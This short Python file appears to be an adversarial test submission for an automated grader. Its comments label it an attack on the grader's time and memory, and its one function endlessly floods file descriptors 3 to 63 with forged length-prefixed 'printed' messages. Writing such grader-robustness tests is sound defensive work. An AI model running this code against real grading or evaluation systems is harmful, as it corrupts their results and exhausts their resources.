# attacks: the grader's time and memory, by messages without end of nothing printed
# base: right
# hits: 11-12
# verdicts: too slow
# says: neskončila ani za
import os
import struct


def popis_balicku(balicek):
    data = b'["printed",""]'
    message = (struct.pack('>I', len(data)) + data) * 1000
    while True:
        for number in range(3, 64):
            try:
                os.write(number, message)
            except OSError:
                pass
